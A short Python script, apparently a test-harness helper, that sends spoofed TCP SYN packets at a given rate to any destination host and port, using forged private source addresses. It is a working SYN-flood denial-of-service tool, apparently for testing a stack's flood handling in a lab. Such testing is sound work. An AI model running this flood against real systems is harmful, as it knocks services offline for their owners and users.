"""Spoofed SYNs (runs in the Linux peer, as root): syn_flood.py DST PORT RATE SECONDS.

RATE SYNs a second, each from a random address of 10.66.0.100-250 and a random
port, never answered (nobody has those addresses); prints how many were sent."""
import os
import random
import socket
import struct
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))))
from shared.wire.checksum import checksum, pseudo_header_sum  # noqa: E402

dst, port, rate, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)      # IP_HDRINCL implied
rng = random.Random(7)
daddr = socket.inet_aton(dst)
sent = 0
end = time.monotonic() + seconds
while time.monotonic() < end:
    saddr = socket.inet_aton(f"10.66.0.{rng.randint(100, 250)}")
    sport, seq = rng.randint(1024, 65535), rng.getrandbits(32)
    opts = struct.pack("!BBH", 2, 4, 1460)                                   # MSS
    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, (5 + 1) << 4, 0x02, 64240, 0, 0) + opts
    tcp = tcp[:16] + struct.pack("!H", checksum(tcp, pseudo_header_sum(saddr, daddr, 6, len(tcp)))) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), rng.getrandbits(16), 0, 64, 6, 0, saddr, daddr)
    raw.sendto(ip + tcp, (dst, 0))
    sent += 1
    time.sleep(1 / rate)
print(f"sent {sent}", flush=True)
